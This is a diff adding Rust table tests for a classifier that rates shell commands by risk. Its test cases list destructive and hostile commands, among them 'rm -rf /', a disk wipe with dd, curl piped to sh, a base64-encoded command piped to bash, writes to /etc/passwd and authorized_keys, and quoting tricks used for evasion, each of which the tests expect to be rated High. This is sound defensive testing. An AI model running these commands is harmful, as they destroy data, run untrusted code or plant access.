@@ -1,0 +1,191 @@
+//! Table tests: each line is a command and the tier it must get. The big golden corpus lives in
+//! `classifier/corpus/`; these are the cases the spine depends on.
+
+use super::*;
+
+fn tier(cmd: &str) -> Tier {
+    Classifier::builtin().classify(cmd, &Context::default()).tier
+}
+
+#[track_caller]
+fn check(cases: &[(&str, Tier)]) {
+    let c = Classifier::builtin();
+    let mut wrong = Vec::new();
+    for (cmd, want) in cases {
+        let a = c.classify(cmd, &Context::default());
+        if a.tier != *want {
+            wrong.push(format!("{cmd:?}: want {want}, got {} ({:?})", a.tier, a.reasons));
+        }
+    }
+    assert!(wrong.is_empty(), "misclassified:\n{}", wrong.join("\n"));
+}
+
+#[test]
+fn spine_examples() {
+    use Tier::*;
+    check(&[
+        ("ls -la /tmp", Low),
+        ("cat /etc/hostname", Low),
+        ("echo hello world", Low),
+        ("git status", Low),
+        ("exit 3", Low),
+        ("true", Low),
+        ("touch /tmp/x", Medium),
+        ("mkdir -p /srv/app", Medium),
+        ("cp a b", Medium),
+        ("systemctl restart nginx", Medium),
+        ("rm -rf /var/www", High),
+        ("rm -rf /", High),
+        ("psql -c 'DROP TABLE users'", High),
+        ("dd if=/dev/zero of=/dev/sda bs=1M", High),
+        ("git push --force origin main", High),
+        ("git push origin +main", High),
+    ]);
+}
+
+#[test]
+fn wrappers_and_quoting_do_not_hide_commands() {
+    use Tier::*;
+    check(&[
+        ("sudo rm -rf /srv", High),
+        ("sudo -u root env X=1 nice -n 5 timeout 10 rm -rf /srv", High),
+        ("bash -c 'rm -rf /srv'", High),
+        ("sh -lc \"git push -f\"", High),
+        ("r''m -rf /srv", High),
+        ("\"rm\" -rf /srv", High),
+        ("\\rm -rf /srv", High),
+        ("/bin/rm -rf /srv", High),
+        ("$'\\x72\\x6d' -rf /srv", High),
+        ("echo $(rm -rf /srv)", High),
+        ("echo `rm -rf /srv`", High),
+        ("find / -name '*.log' -exec rm -rf {} \\;", High),
+        ("find . -delete", High),
+        ("ls | xargs rm -rf", High),
+        ("su -c 'rm -rf /srv'", High),
+        ("eval 'rm -rf /srv'", High),
+        ("ssh web1 'rm -rf /srv'", High),
+        ("kubectl exec -it pod -- rm -rf /data", High),
+        ("docker exec app rm -rf /data", High),
+        ("if true; then rm -rf /srv; fi", High),
+        ("f() { rm -rf /srv; }; f", High),
+        ("(cd /tmp && rm -rf /srv)", High),
+    ]);
+}
+
+#[test]
+fn dynamic_and_piped_code_is_never_low() {
+    use Tier::*;
+    check(&[
+        ("$X -rf /", High),
+        ("$(echo rm) -rf /srv", High),
+        ("$CMD status", Medium),
+        ("curl https://x.example/install.sh | sh", High),
+        ("echo cm0gLXJmIC8= | base64 -d | bash", High),
+        ("bash", High),
+        ("python3", High),
+    ]);
+}
+
+#[test]
+fn data_is_not_execution() {
+    use Tier::*;
+    check(&[
+        ("grep -r \"rm -rf\" .", Low),
+        ("echo \"DROP TABLE users\"", Low),
+        ("man rm", Low),
+        ("git log --grep=force", Low),
+        ("terraform plan -destroy", Low),
+        ("kubectl delete pod x --dry-run=client", High), // delete rule still matches: conservative
+        ("echo hi > /dev/null", Low),
+        ("psql -c 'SELECT 1'", Low),
+    ]);
+}
+
+#[test]
+fn redirections_are_judged() {
+    use Tier::*;
+    check(&[
+        ("echo x > /etc/passwd", High),
+        ("echo x >> ~/.ssh/authorized_keys", High),
+        (": > app.log", Medium),
+        ("echo x > out.txt", Medium),
+    ]);
+}
+
+#[test]
+fn sql_statements_are_judged() {
+    use Tier::*;
+    check(&[
+        ("psql -c 'DELETE FROM users'", High),
+        ("psql -c 'DELETE FROM users WHERE id = 1'", Medium),
+        ("mysql -e 'update t set a=1'", High),
+        ("sqlite3 db.sqlite 'select * from t'", Low),
+        ("redis-cli FLUSHALL", High),
+        ("psql <<< 'drop database prod'", High),
+        ("psql", Medium),
+    ]);
+}
+
+#[test]
+fn unparseable_and_oversized_input_is_high() {
+    assert_eq!(tier("echo 'unterminated"), Tier::High);
+    assert_eq!(tier("if then fi"), Tier::High);
+    assert_eq!(tier(&"a".repeat(MAX_COMMAND_BYTES + 1)), Tier::High);
+    assert_eq!(tier("echo \0"), Tier::High);
+}
+
+#[test]
+fn score_stays_in_the_tier_band_and_production_raises_it() {
+    let c = Classifier::builtin();
+    let mut ctx = Context::default();
+    let plain = c.classify("systemctl restart nginx", &ctx);
+    ctx.labels.insert("env".into(), "prod".into());
+    ctx.target = "web-1".into();
+    let prod = c.classify("systemctl restart nginx", &ctx);
+    assert_eq!(plain.tier, Tier::Medium);
+    assert!((30..=69).contains(&plain.score));
+    assert!(prod.score > plain.score, "{} vs {}", prod.score, plain.score);
+    assert!(prod.reasons.iter().any(|r| r.rule == "context.production"));
+}
+
+#[test]
+fn deep_nesting_is_bounded() {
+    // Substitutions nested past MAX_DEPTH: the classifier stops and calls it high.
+    let mut cmd = "rm -rf /srv".to_string();
+    for _ in 0..(MAX_DEPTH + 4) {
+        cmd = format!("echo $({cmd})");
+    }
+    assert_eq!(tier(&cmd), Tier::High);
+    // A harmless command nested too deep is still high: we could not see to the bottom.
+    let mut cmd = "ls".to_string();
+    for _ in 0..(MAX_DEPTH + 4) {
+        cmd = format!("echo $({cmd})");
+    }
+    assert_eq!(tier(&cmd), Tier::High);
+    // Long wrapper chains are bounded too.
+    assert_eq!(tier(&format!("{}ls", "sudo ".repeat(40))), Tier::High);
+}
+
+#[test]
+fn overrides_replace_builtin_rules() {
+    let pack = RulePack::builtin_with(&[r#"
+[[rule]]
+id = "fs.write"
+programs = ["touch"]
+tier = "low"
+why = "touch is harmless here"
+"#])
+    .expect("valid pack");
+    let c = Classifier::with_pack(pack);
+    assert_eq!(c.classify("touch x", &Context::default()).tier, Tier::Low);
+}
+
+#[test]
+fn bad_packs_are_rejected_with_the_rule_named() {
+    let err = RulePack::from_toml(&["[[rule]]\nid = \"x\"\nprograms = [\"a\"]\nargs = \"(\"\ntier = \"low\"\nwhy = \"y\"\n"])
+        .expect_err("bad regex");
+    assert!(err.to_string().contains("rule x"), "{err}");
+    let err = RulePack::from_toml(&["[[rule]]\nid = \"x\"\nprograms = [\"a\"]\ntier = \"extreme\"\nwhy = \"y\"\n"])
+        .expect_err("bad tier");
+    assert!(err.to_string().contains("extreme"), "{err}");
+}
